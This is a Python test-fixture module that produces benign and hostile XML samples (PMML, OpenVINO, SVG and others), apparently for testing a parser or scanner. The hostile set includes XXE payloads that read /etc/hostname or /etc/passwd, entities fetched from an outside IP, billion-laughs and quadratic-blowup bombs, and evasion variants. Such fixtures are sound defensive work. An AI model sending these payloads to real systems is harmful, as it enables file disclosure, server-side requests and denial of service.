"""XML: PMML, OpenVINO and others. https://www.w3.org/TR/xml/"""

from __future__ import annotations

from collections.abc import Mapping

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def ordinary() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _ORDINARY.items()} | {
        "pmml-in-utf-16": f'<?xml version="1.0" encoding="UTF-16"?>\n{_PMML}'.encode("utf-16"),
    }


def hostile() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _HOSTILE.items()} | {
        "in-utf-16": f'<?xml version="1.0"?><!DOCTYPE x [{_ENTITY}]><x>&e;</x>'.encode("utf-16"),
        "laughs": _laughs().encode(),
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"a" * 4000}">]><x>{"&e;" * 600}</x>'.encode(),
    }


def _laughs() -> str:
    entities = ['<!ENTITY a "aaaaaaaaaa">']
    for last, name in zip("abcdef", "bcdefg", strict=True):
        entities.append(f'<!ENTITY {name} "{10 * f"&{last};"}">')
    return f"{_HEAD}<!DOCTYPE x [{''.join(entities)}]>\n<x>&g;</x>\n"


_ENTITY = '<!ENTITY e SYSTEM "file:///etc/hostname">'

_PMML = (
    '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="x" value="y"/></Header>'
    '<DataDictionary/><TransformationDictionary><DefineFunction name="f" '
    'optype="continuous"/></TransformationDictionary>'
    "</PMML>\n"
)
_ORDINARY = {
    "pmml": _HEAD + _PMML,
    "openvino": '<?xml version="1.0"?>\n<net name="m" version="11">\n<layers>\n<layer id="0" name="x" type="Parameter" '
    'version="opset1"><data shape="1,3" element_type="f32"/></layer>\n</layers>\n<edges/>\n</net>\n',
    "openvino-tokenizer": '<?xml version="1.0"?>\n<net name="t" version="11"><layers><layer id="0" name="x" '
    'type="StringTensorUnpack" version="extension"/></layers></net>\n',
    "html": "<!DOCTYPE html>\n<html><head><script>var a = 1;</script></head><body>&nbsp;</body></html>\n",
    "xhtml": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"\n'
    '  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html/>\n',
    "svg": f'{_HEAD}<!-- Generator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n'
    '<svg xmlns="&ns_svg;"><style>a { b: c }</style></svg>\n',
    "plist": f'{_HEAD}<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>\n',
    "documentation": 'XML can name files:\n\n    <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n\n'
    "That is bad.\n",
    "grammar": f'{_HEAD}<!DOCTYPE a [<!ELEMENT a (#PCDATA)><!ATTLIST a b CDATA #IMPLIED>]>\n<a b="c">d</a>\n',
}

_HOSTILE = {
    # https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html
    "file": f"{_HEAD}<!DOCTYPE PMML [{_ENTITY}]>\n<PMML>&e;</PMML>\n",
    "without-a-declaration": f"<!DOCTYPE PMML [{_ENTITY}]>\n<PMML>&e;</PMML>\n",
    "public": f'{_HEAD}<!DOCTYPE x [<!ENTITY e PUBLIC "a" "http://198.51.100.7/">]>\n<x>&e;</x>\n',
    "parameter": f'{_HEAD}<!DOCTYPE x [<!ENTITY % e SYSTEM "http://198.51.100.7/e.dtd"> %e;]>\n<x/>\n',
    "parameter-with-a-declaration": f"{_HEAD}<!DOCTYPE x [<!ENTITY % e \"&#60;!ENTITY f SYSTEM 'file:///x'>\"> "
    f"%e;]>\n<x/>\n",
    "dtd": f'{_HEAD}<!DOCTYPE net SYSTEM "http://198.51.100.7/e.dtd">\n<net/>\n',
    "dtd-of-the-root": f'{_HEAD}<!DOCTYPE net SYSTEM "/etc/e.dtd">\n<net/>\n',
    "behind-comments": f"{_HEAD}<!-- <!DOCTYPE a> --><?x y?>\n<!DOCTYPE x\n[<!-- ]> -->{_ENTITY}]>\n<x>&e;</x>\n",
    "single-quotes": f"{_HEAD}<!DOCTYPE x [<!ELEMENT x ANY><!ENTITY\te\nSYSTEM 'file:///etc/hostname' >]><x/>\n",
    "behind-blanks": " " * 3000 + f"<!DOCTYPE x [{_ENTITY}]><x/>\n",
    "endless": f'{_HEAD}<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><x>&a;</x>\n',
}
